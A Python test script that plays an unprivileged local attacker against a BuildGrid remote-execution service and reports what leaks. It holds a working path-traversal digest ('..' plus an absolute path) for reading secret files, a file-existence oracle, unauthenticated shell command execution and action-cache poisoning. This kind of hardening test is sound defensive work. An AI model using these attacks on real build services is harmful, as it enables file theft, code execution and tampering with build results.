"""What another local user tries against //tools/remote:local, run as that user (`nobody`).

Prints one JSON object: for each attack, the gRPC status code it got and what leaked. It holds
no token: it is any user of the machine, who can reach the loopback port but not the service
owner's files.

Usage: attacker.py ADDRESS SECRET_FILE SECRET_SIZE
"""

from __future__ import annotations

import hashlib
import json
import sys
import time

import grpc
from buildgrid._protos.build.bazel.remote.execution.v2 import (
    remote_execution_pb2 as reapi,
)
from buildgrid._protos.build.bazel.remote.execution.v2 import (
    remote_execution_pb2_grpc as reapi_grpc,
)
from buildgrid._protos.google.bytestream import bytestream_pb2, bytestream_pb2_grpc

HASH_LENGTH = 64  # SHA-256 in hex: all BuildGrid checks of a digest's hash


def traversal_digest(path: str, size: int) -> reapi.Digest:
    """A "hash" that BuildGrid's disk storage joins into `path`: "..", then slashes, then path.

    The storage keeps a blob at objects/HASH[:2]/HASH[2:]; an absolute HASH[2:] replaces the
    whole join.
    """
    padded = ".." + "/" * (HASH_LENGTH - 2 - len(path)) + path
    return reapi.Digest(hash=padded, size_bytes=size)


def sha256_digest(data: bytes) -> reapi.Digest:
    return reapi.Digest(hash=hashlib.sha256(data).hexdigest(), size_bytes=len(data))


def code_of(call) -> tuple[str, object]:
    try:
        return "OK", call()
    except grpc.RpcError as error:
        return error.code().name, None


def main() -> None:
    address, secret_file, secret_size = sys.argv[1], sys.argv[2], int(sys.argv[3])
    channel = grpc.insecure_channel(address)
    cas = reapi_grpc.ContentAddressableStorageStub(channel)
    bytestream = bytestream_pb2_grpc.ByteStreamStub(channel)
    execution = reapi_grpc.ExecutionStub(channel)
    action_cache = reapi_grpc.ActionCacheStub(channel)
    report: dict[str, dict[str, object]] = {}
    secret = traversal_digest(secret_file, secret_size)

    code, response = code_of(
        lambda: cas.BatchReadBlobs(reapi.BatchReadBlobsRequest(digests=[secret]), timeout=30)
    )
    leaked = response.responses[0].data.decode(errors="replace") if response else ""
    report["batch_read"] = {"code": code, "leaked": leaked}

    name = f"blobs/{secret.hash}/{secret.size_bytes}"
    code, chunks = code_of(
        lambda: b"".join(
            r.data
            for r in bytestream.Read(bytestream_pb2.ReadRequest(resource_name=name), timeout=30)
        )
    )
    report["bytestream_read"] = {"code": code, "leaked": (chunks or b"").decode(errors="replace")}

    absent = traversal_digest(secret_file + "-absent", 1)
    code, response = code_of(
        lambda: cas.FindMissingBlobs(
            reapi.FindMissingBlobsRequest(blob_digests=[secret, absent]), timeout=30
        )
    )
    missing = [d.hash for d in response.missing_blob_digests] if response else []
    # An oracle: it answers that the secret exists and the other path does not.
    report["find_missing"] = {"code": code, "oracle": missing == [absent.hash]}

    command = reapi.Command(
        arguments=["/bin/sh", "-c", "id -u > out.txt"], output_paths=["out.txt"]
    )
    empty_root = reapi.Directory()
    action = reapi.Action(
        command_digest=sha256_digest(command.SerializeToString()),
        input_root_digest=sha256_digest(empty_root.SerializeToString()),
        salt=str(time.time_ns()).encode(),
    )
    blobs = [m.SerializeToString() for m in (command, empty_root, action)]
    code, _ = code_of(
        lambda: cas.BatchUpdateBlobs(
            reapi.BatchUpdateBlobsRequest(
                requests=[
                    reapi.BatchUpdateBlobsRequest.Request(digest=sha256_digest(b), data=b)
                    for b in blobs
                ]
            ),
            timeout=30,
        )
    )
    report["upload"] = {"code": code}

    def execute() -> str:
        request = reapi.ExecuteRequest(
            action_digest=sha256_digest(blobs[2]), skip_cache_lookup=True
        )
        for operation in execution.Execute(request, timeout=90):
            if operation.done:
                result = reapi.ExecuteResponse()
                operation.response.Unpack(result)
                [output] = result.result.output_files
                blob = cas.BatchReadBlobs(
                    reapi.BatchReadBlobsRequest(digests=[output.digest]), timeout=30
                )
                return blob.responses[0].data.decode().strip()
        return ""

    code, uid = code_of(execute)
    report["execute"] = {"code": code, "uid": uid}

    poisoned = reapi.ActionResult(exit_code=0, stdout_raw=b"poisoned")
    code, _ = code_of(
        lambda: action_cache.UpdateActionResult(
            reapi.UpdateActionResultRequest(
                action_digest=sha256_digest(b"any action"), action_result=poisoned
            ),
            timeout=30,
        )
    )
    report["update_action_result"] = {"code": code}
    print(json.dumps(report))


if __name__ == "__main__":
    main()
